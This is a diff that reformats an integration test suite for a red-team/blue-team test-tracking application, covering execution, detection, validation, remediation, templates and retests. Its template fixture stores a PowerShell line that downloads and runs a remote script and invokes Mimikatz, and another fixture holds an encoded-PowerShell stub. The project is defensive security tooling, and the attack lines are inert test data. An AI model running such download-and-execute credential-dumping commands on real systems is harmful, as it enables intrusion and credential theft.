@@ -1,6 +1,17 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestApp, type TestApp } from './helpers/app.ts';
-import { activeUserIds, advance, auditActions, campaign, createTest, notified, statusOf, team, technique, type Team } from './tests-fixtures.ts';
+import {
+  activeUserIds,
+  advance,
+  auditActions,
+  campaign,
+  createTest,
+  notified,
+  statusOf,
+  team,
+  technique,
+  type Team,
+} from './tests-fixtures.ts';
 
 let app: TestApp;
 let t: Team;
@@ -21,7 +32,12 @@ describe('the full pipeline over REST', () => {
     const { id: techniqueId, ttpId } = await technique(app);
     expect(await statusOf(app, techniqueId)).toBe('not_evaluated');
 
-    const created = await createTest(app, t.red_lead, techniqueId, { description: 'Run an encoded command', platform: 'windows', procedure_text: 'powershell -enc …', tool_used: 'powershell' });
+    const created = await createTest(app, t.red_lead, techniqueId, {
+      description: 'Run an encoded command',
+      platform: 'windows',
+      procedure_text: 'powershell -enc …',
+      tool_used: 'powershell',
+    });
     expect(created).toMatchObject({
       state: 'draft',
       technique_id: techniqueId,
@@ -45,11 +61,19 @@ describe('the full pipeline over REST', () => {
 
     const started = await app.api('POST', `/tests/${id}/start-execution`, { token: t.red_tech.token });
     expect(started.status).toBe(200);
-    expect(started.body).toMatchObject({ state: 'red_executing', execution_date: expect.any(String), timer_running: true, valid_transitions: ['blue_evaluating'] });
+    expect(started.body).toMatchObject({
+      state: 'red_executing',
+      execution_date: expect.any(String),
+      timer_running: true,
+      valid_transitions: ['blue_evaluating'],
+    });
     expect(await notified(app, id, 'test_execution_started')).toEqual([t.red_lead.id]);
     expect(await statusOf(app, techniqueId)).toBe('in_progress');
 
-    const red = await app.api('PATCH', `/tests/${id}/red`, { token: t.red_tech.token, body: { attack_success: true, red_summary: 'Payload ran', tool_used: 'pwsh' } });
+    const red = await app.api('PATCH', `/tests/${id}/red`, {
+      token: t.red_tech.token,
+      body: { attack_success: true, red_summary: 'Payload ran', tool_used: 'pwsh' },
+    });
     expect(red.body).toMatchObject({ attack_success: true, red_summary: 'Payload ran', tool_used: 'pwsh', state: 'red_executing' });
 
     const submittedRed = await app.api('POST', `/tests/${id}/submit-red`, { token: t.red_tech.token });
@@ -57,7 +81,10 @@ describe('the full pipeline over REST', () => {
     expect(await notified(app, id, 'test_ready_for_blue')).toEqual(await activeUserIds(app, ['blue_tech']));
     expect((await notified(app, id, 'test_ready_for_blue')).length).toBe(2);
 
-    const blue = await app.api('PATCH', `/tests/${id}/blue`, { token: t.blue_tech.token, body: { detection_result: 'detected', blue_summary: 'EDR alert' } });
+    const blue = await app.api('PATCH', `/tests/${id}/blue`, {
+      token: t.blue_tech.token,
+      body: { detection_result: 'detected', blue_summary: 'EDR alert' },
+    });
     expect(blue.body).toMatchObject({ detection_result: 'detected', blue_summary: 'EDR alert' });
 
     const submittedBlue = await app.api('POST', `/tests/${id}/submit-blue`, { token: t.blue_tech.token });
@@ -72,7 +99,10 @@ describe('the full pipeline over REST', () => {
     expect((await notified(app, id, 'test_ready_for_review')).length).toBe(4);
     expect(await statusOf(app, techniqueId)).toBe('in_progress');
 
-    const redApproved = await app.api('POST', `/tests/${id}/validate-red`, { token: t.red_lead.token, body: { red_validation_status: 'approved', red_validation_notes: 'Clean run' } });
+    const redApproved = await app.api('POST', `/tests/${id}/validate-red`, {
+      token: t.red_lead.token,
+      body: { red_validation_status: 'approved', red_validation_notes: 'Clean run' },
+    });
     expect(redApproved.body).toMatchObject({
       state: 'in_review',
       red_validation_status: 'approved',
@@ -85,7 +115,10 @@ describe('the full pipeline over REST', () => {
     });
     expect(await notified(app, id, 'test_validated')).toEqual([]);
 
-    const blueApproved = await app.api('POST', `/tests/${id}/validate-blue`, { token: t.blue_lead.token, body: { blue_validation_status: 'approved' } });
+    const blueApproved = await app.api('POST', `/tests/${id}/validate-blue`, {
+      token: t.blue_lead.token,
+      body: { blue_validation_status: 'approved' },
+    });
     expect(blueApproved.body).toMatchObject({
       state: 'validated',
       blue_validation_status: 'approved',
@@ -109,7 +142,10 @@ describe('the full pipeline over REST', () => {
       'validate_test_blue',
     ]);
     const audit = await app.services.prisma.auditLog.findFirstOrThrow({ where: { entityId: id, action: 'validate_test_blue' } });
-    expect(audit).toMatchObject({ userId: t.blue_lead.id, details: { from_state: 'in_review', to_state: 'validated', sides: ['blue'], decision: 'approved' } });
+    expect(audit).toMatchObject({
+      userId: t.blue_lead.id,
+      details: { from_state: 'in_review', to_state: 'validated', sides: ['blue'], decision: 'approved' },
+    });
 
     const entries = await timeline(id);
     expect(entries.map((entry) => [entry.kind, entry.from_state, entry.to_state, entry.actor_id])).toEqual([
@@ -124,13 +160,20 @@ describe('the full pipeline over REST', () => {
       ['state_changed', 'in_review', 'validated', t.blue_lead.id],
     ]);
     expect(entries[1].details).toEqual({ action: 'start-execution', timer: 'started' });
-    expect(entries[2].details).toEqual({ fields: ['tool_used', 'attack_success', 'red_summary'], changes: { tool_used: 'pwsh', attack_success: true } });
+    expect(entries[2].details).toEqual({
+      fields: ['tool_used', 'attack_success', 'red_summary'],
+      changes: { tool_used: 'pwsh', attack_success: true },
+    });
     expect(entries[5].details).toEqual({ action: 'submit-blue', timer: 'stopped' });
     expect(entries[6].details).toEqual({ side: 'red', status: 'approved', notes: 'Clean run' });
     expect(entries.every((entry, index) => index === 0 || entry.at > entries[index - 1].at)).toBe(true);
     expect(entries[0]).toMatchObject({ actor_name: t.red_lead.username, at: expect.any(String) });
 
-    const technique_ = await app.graphql(`query ($ttpId: String!) { technique(ttpId: $ttpId) { statusGlobal tests { id state } } }`, { ttpId }, t.viewer.token);
+    const technique_ = await app.graphql(
+      `query ($ttpId: String!) { technique(ttpId: $ttpId) { statusGlobal tests { id state } } }`,
+      { ttpId },
+      t.viewer.token,
+    );
     expect(technique_.data.technique).toEqual({ statusGlobal: 'validated', tests: [{ id, state: 'validated' }] });
   });
 
@@ -138,10 +181,23 @@ describe('the full pipeline over REST', () => {
     const { id: techniqueId } = await technique(app);
     const { id } = await createTest(app, t.blue_lead, techniqueId);
     await advance(app, t, id, 'in_review');
-    await app.api('POST', `/tests/${id}/validate-red`, { token: t.red_lead.token, body: { red_validation_status: 'approved', red_validation_notes: 'ok' } });
+    await app.api('POST', `/tests/${id}/validate-red`, {
+      token: t.red_lead.token,
+      body: { red_validation_status: 'approved', red_validation_notes: 'ok' },
+    });
 
-    const rejected = await app.api('POST', `/tests/${id}/validate-blue`, { token: t.blue_lead.token, body: { blue_validation_status: 'rejected', blue_validation_notes: 'No telemetry' } });
-    expect(rejected.body).toMatchObject({ state: 'rejected', red_validation_status: 'approved', blue_validation_status: 'rejected', blue_validation_notes: 'No telemetry', decided_at: expect.any(String), valid_transitions: ['draft'] });
+    const rejected = await app.api('POST', `/tests/${id}/validate-blue`, {
+      token: t.blue_lead.token,
+      body: { blue_validation_status: 'rejected', blue_validation_notes: 'No telemetry' },
+    });
+    expect(rejected.body).toMatchObject({
+      state: 'rejected',
+      red_validation_status: 'approved',
+      blue_validation_status: 'rejected',
+      blue_validation_notes: 'No telemetry',
+      decided_at: expect.any(String),
+      valid_transitions: ['draft'],
+    });
     expect(await notified(app, id, 'test_rejected')).toEqual([t.blue_lead.id]);
     expect(await notified(app, id, 'test_validated')).toEqual([]);
     expect(await statusOf(app, techniqueId)).toBe('in_progress');
@@ -149,10 +205,21 @@ describe('the full pipeline over REST', () => {
     // Remediation is open once reviewed; completion is stamped.
     const remediation = await app.api('PATCH', `/tests/${id}/remediation`, {
       token: t.red_lead.token,
-      body: { remediation_steps: 'Enable script block logging\nForward 4104', remediation_status: 'completed', remediation_assignee: t.blue_tech.id },
+      body: {
+        remediation_steps: 'Enable script block logging\nForward 4104',
+        remediation_status: 'completed',
+        remediation_assignee: t.blue_tech.id,
+      },
     });
-    expect(remediation.body).toMatchObject({ remediation_status: 'completed', remediation_assignee: t.blue_tech.id, remediation_completed_at: expect.any(String) });
-    const reopenedRemediation = await app.api('PATCH', `/tests/${id}/remediation`, { token: t.red_lead.token, body: { remediation_status: 'in_progress' } });
+    expect(remediation.body).toMatchObject({
+      remediation_status: 'completed',
+      remediation_assignee: t.blue_tech.id,
+      remediation_completed_at: expect.any(String),
+    });
+    const reopenedRemediation = await app.api('PATCH', `/tests/${id}/remediation`, {
+      token: t.red_lead.token,
+      body: { remediation_status: 'in_progress' },
+    });
     expect(reopenedRemediation.body).toMatchObject({ remediation_status: 'in_progress', remediation_completed_at: null });
 
     const reopened = await app.api('POST', `/tests/${id}/reopen`, { token: t.red_lead.token });
@@ -170,7 +237,12 @@ describe('the full pipeline over REST', () => {
       detection_result: 'detected',
     });
     expect(await statusOf(app, techniqueId)).toBe('not_evaluated');
-    expect((await timeline(id)).at(-1)).toMatchObject({ kind: 'state_changed', from_state: 'rejected', to_state: 'draft', actor_id: t.red_lead.id });
+    expect((await timeline(id)).at(-1)).toMatchObject({
+      kind: 'state_changed',
+      from_state: 'rejected',
+      to_state: 'draft',
+      actor_id: t.red_lead.id,
+    });
     expect(await auditActions(app, id)).toContain('reopen_test');
 
     // Back through the pipeline: the second round is decided afresh.
@@ -182,7 +254,10 @@ describe('the full pipeline over REST', () => {
     const { id: techniqueId } = await technique(app);
     const { id } = await createTest(app, t.admin, techniqueId);
     await advance(app, t, id, 'in_review');
-    const rejected = await app.api('POST', `/tests/${id}/validate-red`, { token: t.red_lead.token, body: { red_validation_status: 'rejected' } });
+    const rejected = await app.api('POST', `/tests/${id}/validate-red`, {
+      token: t.red_lead.token,
+      body: { red_validation_status: 'rejected' },
+    });
     expect(rejected.body).toMatchObject({ state: 'rejected', red_validation_status: 'rejected', blue_validation_status: null });
     expect(await notified(app, id, 'test_rejected')).toEqual([t.admin.id]);
   });
@@ -198,12 +273,21 @@ describe('the full pipeline over REST', () => {
 });
 
 describe('the earlier lifecycle endpoints on the same machine', () => {
-  it('POST /validate approves the caller\'s lead side and records result as detection_result; the other lead completes it', async () => {
+  it("POST /validate approves the caller's lead side and records result as detection_result; the other lead completes it", async () => {
     const { id: techniqueId } = await technique(app);
     const { id } = await createTest(app, t.red_lead, techniqueId);
     await advance(app, t, id, 'in_review');
-    const half = await app.api('POST', `/tests/${id}/validate`, { token: t.blue_lead.token, body: { result: 'partially_detected', comments: 'Only one alert' } });
-    expect(half.body).toMatchObject({ state: 'in_review', blue_validation_status: 'approved', blue_validation_notes: 'Only one alert', detection_result: 'partially_detected', red_validation_status: null });
+    const half = await app.api('POST', `/tests/${id}/validate`, {
+      token: t.blue_lead.token,
+      body: { result: 'partially_detected', comments: 'Only one alert' },
+    });
+    expect(half.body).toMatchObject({
+      state: 'in_review',
+      blue_validation_status: 'approved',
+      blue_validation_notes: 'Only one alert',
+      detection_result: 'partially_detected',
+      red_validation_status: null,
+    });
     const again = await app.api('POST', `/tests/${id}/validate`, { token: t.blue_lead.token, body: {} });
     expect(again).toMatchObject({ status: 409, body: { code: 'ALREADY_VALIDATED', side: 'blue' } });
     const done = await app.api('POST', `/tests/${id}/validate`, { token: t.red_lead.token });
@@ -212,18 +296,23 @@ describe('the earlier lifecycle endpoints on the same machine', () => {
     expect(await auditActions(app, id)).toEqual(expect.arrayContaining(['validate_test']));
   });
 
-  it('an admin\'s POST /validate approves every pending side at once', async () => {
+  it("an admin's POST /validate approves every pending side at once", async () => {
     const { id: techniqueId } = await technique(app);
     const { id } = await createTest(app, t.red_lead, techniqueId);
     await advance(app, t, id, 'in_review');
     const done = await app.api('POST', `/tests/${id}/validate`, { token: t.admin.token, body: { result: 'not_detected' } });
-    expect(done.body).toMatchObject({ state: 'validated', red_validation_status: 'approved', blue_validation_status: 'approved', detection_result: 'not_detected' });
+    expect(done.body).toMatchObject({
+      state: 'validated',
+      red_validation_status: 'approved',
+      blue_validation_status: 'approved',
+      detection_result: 'not_detected',
+    });
     expect(await statusOf(app, techniqueId)).toBe('not_covered');
     const entries = await timeline(id);
     expect(entries.filter((entry) => entry.kind === 'validation_recorded').map((entry) => entry.details.side)).toEqual(['red', 'blue']);
   });
 
-  it('POST /reject rejects for the caller\'s side; technicians may not', async () => {
+  it("POST /reject rejects for the caller's side; technicians may not", async () => {
     const { id: techniqueId } = await technique(app);
     const { id } = await createTest(app, t.red_lead, techniqueId);
     await advance(app, t, id, 'in_review');
@@ -240,18 +329,41 @@ describe('reading and listing', () => {
     const { id } = await createTest(app, t.red_lead, techniqueId);
     const read = await app.api('GET', `/tests/${id}`, { token: t.viewer.token });
     expect(read).toMatchObject({ status: 200, body: { id, state: 'draft', technique: { id: techniqueId } } });
-    expect(Object.keys(read.body)).toEqual(expect.arrayContaining(['red_validation_status', 'remediation_steps', 'data_classification', 'elapsed_seconds', 'lineage_id']));
+    expect(Object.keys(read.body)).toEqual(
+      expect.arrayContaining(['red_validation_status', 'remediation_steps', 'data_classification', 'elapsed_seconds', 'lineage_id']),
+    );
     expect(read.body).toMatchObject({ evidences: [], detection_evaluations: [] });
 
     const evidence = await app.services.prisma.evidence.create({
-      data: { testId: id, team: 'red', fileName: 'run.log', contentType: 'text/plain', sizeBytes: 3n, sha256Hash: 'ab'.repeat(32), storageKey: `tests/${id}/run.log`, uploadedById: t.red_tech.id },
+      data: {
+        testId: id,
+        team: 'red',
+        fileName: 'run.log',
+        contentType: 'text/plain',
+        sizeBytes: 3n,
+        sha256Hash: 'ab'.repeat(32),
+        storageKey: `tests/${id}/run.log`,
+        uploadedById: t.red_tech.id,
+      },
     });
-    await app.services.prisma.detectionEvaluation.create({ data: { testId: id, triggered: true, ruleTitle: 'Encoded PowerShell', ruleSource: 'sigma', ruleAuthor: 'Someone' } });
+    await app.services.prisma.detectionEvaluation.create({
+      data: { testId: id, triggered: true, ruleTitle: 'Encoded PowerShell', ruleSource: 'sigma', ruleAuthor: 'Someone' },
+    });
     const detailed = await app.api('GET', `/tests/${id}`, { token: t.viewer.token });
-    expect(detailed.body.evidences).toEqual([expect.objectContaining({ id: evidence.id, test_id: id, team: 'red', file_name: 'run.log', sha256_hash: 'ab'.repeat(32) })]);
-    expect(detailed.body.detection_evaluations).toEqual([expect.objectContaining({ test_id: id, triggered: true, rule_title: 'Encoded PowerShell', rule_author: 'Someone' })]);
-    expect(await app.api('GET', '/tests/00000000-0000-4000-8000-000000000000', { token: t.viewer.token })).toMatchObject({ status: 404, body: { code: 'NOT_FOUND' } });
-    expect(await app.api('GET', '/tests/not-a-uuid', { token: t.viewer.token })).toMatchObject({ status: 400, body: { code: 'VALIDATION_ERROR', field: 'id' } });
+    expect(detailed.body.evidences).toEqual([
+      expect.objectContaining({ id: evidence.id, test_id: id, team: 'red', file_name: 'run.log', sha256_hash: 'ab'.repeat(32) }),
+    ]);
+    expect(detailed.body.detection_evaluations).toEqual([
+      expect.objectContaining({ test_id: id, triggered: true, rule_title: 'Encoded PowerShell', rule_author: 'Someone' }),
+    ]);
+    expect(await app.api('GET', '/tests/00000000-0000-4000-8000-000000000000', { token: t.viewer.token })).toMatchObject({
+      status: 404,
+      body: { code: 'NOT_FOUND' },
+    });
+    expect(await app.api('GET', '/tests/not-a-uuid', { token: t.viewer.token })).toMatchObject({
+      status: 400,
+      body: { code: 'VALIDATION_ERROR', field: 'id' },
+    });
     expect(await app.api('GET', '/tests/not-a-uuid/timeline', { token: t.viewer.token })).toMatchObject({ status: 400 });
     expect(await app.api('POST', '/tests/not-a-uuid/start-execution', { token: t.admin.token })).toMatchObject({ status: 400 });
   });
@@ -289,25 +401,53 @@ describe('reading and listing', () => {
     expect(paged.body.items.map((item: any) => item.id)).toEqual([c.id, b.id]);
     expect((await app.api('GET', '/tests', { token: t.viewer.token })).body).toMatchObject({ offset: 0, limit: 50 });
     expect((await app.api('GET', '/tests?limit=200', { token: t.viewer.token })).status).toBe(200);
-    expect(await app.api('GET', '/tests?limit=201', { token: t.viewer.token })).toMatchObject({ status: 400, body: { code: 'VALIDATION_ERROR', field: 'limit' } });
+    expect(await app.api('GET', '/tests?limit=201', { token: t.viewer.token })).toMatchObject({
+      status: 400,
+      body: { code: 'VALIDATION_ERROR', field: 'limit' },
+    });
     expect(await app.api('GET', '/tests?state=done', { token: t.viewer.token })).toMatchObject({ status: 400, body: { field: 'state' } });
-    expect(await app.api('GET', '/tests?pending_validation_side=green', { token: t.viewer.token })).toMatchObject({ status: 400, body: { field: 'pending_validation_side' } });
-    expect(await app.api('GET', '/tests?technique_id=T1059', { token: t.viewer.token })).toMatchObject({ status: 400, body: { field: 'technique_id' } });
+    expect(await app.api('GET', '/tests?pending_validation_side=green', { token: t.viewer.token })).toMatchObject({
+      status: 400,
+      body: { field: 'pending_validation_side' },
+    });
+    expect(await app.api('GET', '/tests?technique_id=T1059', { token: t.viewer.token })).toMatchObject({
+      status: 400,
+      body: { field: 'technique_id' },
+    });
   });
 
   it('creation validates its body and the referenced records', async () => {
     const { id: techniqueId } = await technique(app);
-    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { technique_id: techniqueId } })).toMatchObject({ status: 400, body: { field: 'name' } });
-    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x' } })).toMatchObject({ status: 400, body: { field: 'technique_id' } });
-    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x', technique_id: '00000000-0000-4000-8000-000000000000' } })).toMatchObject({
+    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { technique_id: techniqueId } })).toMatchObject({
+      status: 400,
+      body: { field: 'name' },
+    });
+    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x' } })).toMatchObject({
+      status: 400,
+      body: { field: 'technique_id' },
+    });
+    expect(
+      await app.api('POST', '/tests', {
+        token: t.red_lead.token,
+        body: { name: 'x', technique_id: '00000000-0000-4000-8000-000000000000' },
+      }),
+    ).toMatchObject({
       status: 400,
       body: { code: 'VALIDATION_ERROR', field: 'technique_id' },
     });
-    expect(await app.api('POST', '/tests', { token: t.red_lead.token, body: { name: 'x', technique_id: techniqueId, assigned_to: t.viewer.id.replace(/.$/, (last) => (last === '0' ? '1' : '0')) } })).toMatchObject({
+    expect(
+      await app.api('POST', '/tests', {
+        token: t.red_lead.token,
+        body: { name: 'x', technique_id: techniqueId, assigned_to: t.viewer.id.replace(/.$/, (last) => (last === '0' ? '1' : '0')) },
+      }),
+    ).toMatchObject({
       status: 400,
       body: { field: 'assigned_to' },
     });
-    const titled = await app.api('POST', '/tests', { token: t.red_lead.token, body: { title: 'Via title', objective: 'Via objective', technique_id: techniqueId } });
+    const titled = await app.api('POST', '/tests', {
+      token: t.red_lead.token,
+      body: { title: 'Via title', objective: 'Via objective', technique_id: techniqueId },
+    });
     expect(titled.body).toMatchObject({ name: 'Via title', description: 'Via objective' });
     expect((await app.api('POST', '/tests', { token: t.red_tech.token, body: { name: 'x', technique_id: techniqueId } })).status).toBe(403);
   });
@@ -325,14 +465,20 @@ describe('from a template', () => {
         platforms: ['windows'],
         source: 'atomic_red_team',
         executor: 'powershell',
-        procedure: 'IEX (New-Object Net.WebClient).DownloadString(\'#{mimurl}\'); Invoke-Mimikatz #{unknown}',
+        procedure: "IEX (New-Object Net.WebClient).DownloadString('#{mimurl}'); Invoke-Mimikatz #{unknown}",
         cleanupCommand: 'Remove-Item #{out_file}',
-        inputArguments: { mimurl: { description: 'URL', type: 'url', default: 'https://example.test/m.ps1' }, out_file: { type: 'path', default: 'C:\\m.txt' } },
+        inputArguments: {
+          mimurl: { description: 'URL', type: 'url', default: 'https://example.test/m.ps1' },
+          out_file: { type: 'path', default: 'C:\\m.txt' },
+        },
         suggestedRemediation: 'Block script downloads',
         externalId: 'f3132740-55bc-48c4-bcc0-758a459cd027',
       },
     });
-    const created = await app.api('POST', '/tests/from-template', { token: t.blue_lead.token, body: { template_id: template.id, technique_id: target.id } });
+    const created = await app.api('POST', '/tests/from-template', {
+      token: t.blue_lead.token,
+      body: { template_id: template.id, technique_id: target.id },
+    });
     expect(created.status).toBe(201);
     expect(created.body).toMatchObject({
       state: 'draft',
@@ -341,25 +487,41 @@ describe('from a template', () => {
       name: 'Mimikatz via PowerShell',
       description: 'Download and run Mimikatz',
       platform: 'windows',
-      procedure_text: "IEX (New-Object Net.WebClient).DownloadString('https://example.test/m.ps1'); Invoke-Mimikatz #{unknown}\n\nCleanup:\nRemove-Item C:\\m.txt",
+      procedure_text:
+        "IEX (New-Object Net.WebClient).DownloadString('https://example.test/m.ps1'); Invoke-Mimikatz #{unknown}\n\nCleanup:\nRemove-Item C:\\m.txt",
       tool_used: 'powershell',
       remediation_steps: 'Block script downloads',
       created_by: t.blue_lead.id,
     });
     // Without technique_id, the template's own technique is used.
-    const implied = await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: template.id, name: 'Renamed' } });
+    const implied = await app.api('POST', '/tests/from-template', {
+      token: t.admin.token,
+      body: { template_id: template.id, name: 'Renamed' },
+    });
     expect(implied.body).toMatchObject({ technique_id: target.id, name: 'Renamed' });
 
-    const manual = await app.services.prisma.testTemplate.create({ data: { name: 'Manual', procedure: 'whoami', toolUsed: 'cmd', isActive: false } });
-    expect(await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id, technique_id: target.id } })).toMatchObject({
+    const manual = await app.services.prisma.testTemplate.create({
+      data: { name: 'Manual', procedure: 'whoami', toolUsed: 'cmd', isActive: false },
+    });
+    expect(
+      await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id, technique_id: target.id } }),
+    ).toMatchObject({
       status: 400,
       body: { field: 'template_id' },
     });
     await app.services.prisma.testTemplate.update({ where: { id: manual.id }, data: { isActive: true } });
-    expect(await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id } })).toMatchObject({ status: 400, body: { field: 'technique_id' } });
-    const fromManual = await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id, technique_id: target.id } });
+    expect(await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: manual.id } })).toMatchObject({
+      status: 400,
+      body: { field: 'technique_id' },
+    });
+    const fromManual = await app.api('POST', '/tests/from-template', {
+      token: t.admin.token,
+      body: { template_id: manual.id, technique_id: target.id },
+    });
     expect(fromManual.body).toMatchObject({ procedure_text: 'whoami', tool_used: 'cmd', remediation_steps: null, platform: null });
-    expect(await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: target.id, technique_id: target.id } })).toMatchObject({
+    expect(
+      await app.api('POST', '/tests/from-template', { token: t.admin.token, body: { template_id: target.id, technique_id: target.id } }),
+    ).toMatchObject({
       status: 400,
       body: { field: 'template_id' },
     });
@@ -370,7 +532,10 @@ describe('retests', () => {
   it('POST /tests/{id}/retest copies the definition into a new draft of the same lineage; the chain lists them in creation order', async () => {
     const { id: techniqueId } = await technique(app);
     const first = await createTest(app, t.red_lead, techniqueId, { platform: 'linux', procedure_text: 'id' });
-    expect((await app.api('POST', `/tests/${first.id}/retest`, { token: t.red_lead.token })).body).toMatchObject({ code: 'RETEST_NOT_ALLOWED', current_state: 'draft' });
+    expect((await app.api('POST', `/tests/${first.id}/retest`, { token: t.red_lead.token })).body).toMatchObject({
+      code: 'RETEST_NOT_ALLOWED',
+      current_state: 'draft',
+    });
     await advance(app, t, first.id, 'rejected');
 
     const second = await app.api('POST', `/tests/${first.id}/retest`, { token: t.blue_lead.token });
